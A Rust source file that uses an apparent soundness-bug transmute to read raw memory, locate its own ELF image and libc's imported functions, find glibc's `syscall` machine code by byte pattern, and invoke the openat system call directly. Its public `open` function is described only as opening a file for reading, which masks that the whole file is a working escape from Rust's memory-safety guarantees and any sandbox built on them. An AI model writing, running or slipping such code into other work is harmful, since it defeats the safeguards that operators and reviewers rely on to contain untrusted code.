//! From a number that is a reference to system calls: the library's own image names libc, libc holds `syscall`.
use super::bugs::transmuted::transmute;

/// glibc's `syscall`: moves its arguments by one register, and traps.
const SYSCALL: [u8; 25] = [
    0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x4c, 0x8b, 0x4c, 0x24,
    0x08, 0x0f, 0x05,
];

fn word(address: usize) -> usize {
    *transmute::<usize, &'static usize>(address)
}

fn byte(address: usize) -> u8 {
    *transmute::<usize, &'static u8>(address)
}

/// Where this library was mapped.
fn image() -> usize {
    let mut page = (open as fn(&str) -> String as usize) & !0xfff;
    while word(page) & 0xffff_ffff != 0x464c_457f {
        page -= 0x1000;
    }
    page
}

/// The address that the dynamic linker put in for an imported function.
fn imported(name: &str) -> Option<usize> {
    let image = image();
    let (table, count) = (image + word(image + 0x20), word(image + 0x38) & 0xffff);
    let dynamic =
        (0..count).map(|i| table + i * 56).find(|header| word(*header) & 0xffff_ffff == 2).map(|header| image + word(header + 16))?;
    let entry = |tag: usize| (0..100).map(|i| dynamic + i * 16).find(|at| word(*at) == tag).map(|at| word(at + 8));
    // glibc has turned the addresses among them into absolute ones.
    let absolute = |address: usize| if address < image { address + image } else { address };
    let (symbols, names) = (absolute(entry(6)?), absolute(entry(5)?));
    for (start, size) in [(entry(23), entry(2)), (entry(7), entry(8))] {
        let (Some(start), Some(size)) = (start, size) else { continue };
        for relocation in (0..size / 24).map(|i| absolute(start) + i * 24) {
            let symbol = word(relocation + 8) >> 32;
            if symbol == 0 {
                continue;
            }
            let at = names + (word(symbols + symbol * 24) & 0xffff_ffff);
            if name.bytes().enumerate().all(|(i, letter)| byte(at + i) == letter) && byte(at + name.len()) == 0 {
                return Some(word(image + word(relocation)));
            }
        }
    }
    None
}

/// Opens a file for reading.
pub fn open(path: &str) -> String {
    let Some(libc) = ["gettid", "sched_yield", "clock_gettime", "getauxval", "malloc"].iter().find_map(|name| imported(name)) else {
        return "nothing of libc was found".to_owned();
    };
    let fits = |at: &usize| SYSCALL.iter().enumerate().all(|(i, expected)| byte(at + i) == *expected);
    let Some(at) = (libc..libc + (700 << 10)).find(fits).or_else(|| (libc - (400 << 10)..libc).find(fits)) else {
        return "no system call was found".to_owned();
    };
    let syscall = transmute::<usize, extern "C" fn(usize, usize, usize, usize, usize) -> isize>(at);
    let path = format!("{path}\0");
    match syscall(257, -100isize as usize, path.as_ptr() as usize, 0, 0) {
        file @ 0.. => format!("reached {file}"),
        _ => format!("refused {}", std::io::Error::last_os_error().raw_os_error().unwrap_or(0)),
    }
}
